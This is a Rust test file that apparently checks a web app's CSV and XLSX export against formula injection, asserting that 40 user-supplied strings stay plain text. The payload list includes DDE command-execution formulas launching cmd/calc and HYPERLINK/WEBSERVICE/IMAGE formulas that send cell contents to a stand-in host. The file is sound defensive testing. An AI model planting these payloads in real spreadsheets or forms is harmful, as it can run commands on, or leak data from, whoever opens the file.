//! Whatever somebody typed leaves the house as a text, in every file for a spreadsheet.

use crate::sheets;
use crate::web::sheet::{Cell, Wide};
use std::fs;
use std::io::{Cursor, Read};
use std::path::{Path, PathBuf};

/// What people put into a form so that somebody else's spreadsheet runs it.
const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.test?\"&A1,\"xem\")",
    "=WEBSERVICE(\"http://x.test/\"&A2)",
    "=IMPORTXML(CONCAT(\"http://x.test/\",A1),\"//a\")",
    "=IMPORTRANGE(\"x\",\"A1\")",
    "=IMAGE(\"http://x.test/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=SUM(A1:A9)*cmd|' /C calc'!A0",
    "=\"\"&A1",
    "= 1+1",
    "==1+1",
    "=-1",
    "=@SUM(A1)",
    "={1;2}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+84912345678",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{b}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\"=1+1\"",
    "a\"\r\n=1+1;=1+1,=1+1",
];

fn written(cell: fn(String) -> Cell) -> Wide {
    let lines = PAYLOADS.iter().map(|said| vec![cell((*said).to_owned()), Cell::Number(7)]).collect();
    Wide { name: "so".into(), head: vec!["=1+1".into(), "Số".into()], lines }
}

/// Does a program that reads CSV without types take it for a formula? What only says a text is none.
fn is_run(cell: &str) -> bool {
    let says_a_text =
        cell.strip_prefix("=\"").and_then(|rest| rest.strip_suffix('"')).is_some_and(|said| !said.contains('"'));
    let first = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '\u{feff}');
    !says_a_text && first.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r'])
}

#[test]
fn forty_formulas_stay_texts_in_a_csv_file() {
    for of in [Cell::Text as fn(String) -> Cell, Cell::Digits] {
        let file = written(of).comma_separated().unwrap();
        let text = std::str::from_utf8(&file).unwrap().trim_start_matches('\u{feff}');
        let mut rows = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        let cells: Vec<String> = rows.records().map(|row| row.unwrap().get(0).unwrap().to_owned()).collect();
        assert_eq!(cells.len(), PAYLOADS.len() + 1, "no payload makes a row of its own");
        for cell in &cells[1..] {
            assert!(!is_run(cell), "{cell:?}");
        }
    }
}

#[test]
fn forty_formulas_stay_texts_in_a_workbook_and_come_back_as_they_were() {
    for of in [Cell::Text as fn(String) -> Cell, Cell::Digits] {
        let file = written(of).workbook(0).unwrap();
        let mut zip = zip::ZipArchive::new(Cursor::new(&file)).unwrap();
        let mut cells = String::new();
        zip.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut cells).unwrap();
        assert!(!cells.contains("<f>") && !cells.contains("<f ") && !cells.contains("hyperlink"), "{cells}");
        let grid = sheets::read(&file, 100).unwrap();
        // Signs that XML has no place for are written by their numbers.
        let plain = |said: &&str| !said.contains(['\r', '\u{b}']);
        for (line, said) in grid.lines[1..].iter().zip(PAYLOADS).filter(|(_, said)| plain(said)) {
            assert_eq!(line.cells[0].said.replace("\r\n", "\n"), said.replace("\r\n", "\n"), "{said:?}");
        }
    }
}

fn sources(folder: &Path, found: &mut Vec<PathBuf>) {
    for path in fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()) {
        if path.is_dir() {
            sources(&path, found);
        } else if path.extension().is_some_and(|kind| kind == "rs") {
            found.push(path);
        }
    }
}

/// There is one place that writes such files, so what holds for it holds for all of them.
#[test]
fn every_file_for_a_spreadsheet_is_written_in_one_place() {
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut all = Vec::new();
    sources(&src, &mut all);
    let of_tests = |path: &Path| path.iter().any(|part| part.to_string_lossy().starts_with("test"));
    let writes = |path: &PathBuf| {
        let text = fs::read_to_string(path).unwrap();
        let code = text.split("mod tests {").next().unwrap_or_default().to_owned();
        ["Workbook::new", "text/csv", "spreadsheetml", "add_worksheet"].iter().any(|word| code.contains(word))
    };
    let inside = |path: &PathBuf| path.strip_prefix(&src).unwrap().to_string_lossy().into_owned();
    let found: Vec<String> =
        all.iter().filter(|path| !of_tests(path.strip_prefix(&src).unwrap()) && writes(path)).map(inside).collect();
    assert_eq!(found, ["web/sheet/book.rs", "web/sheet/long.rs", "web/sheet.rs"]);
}
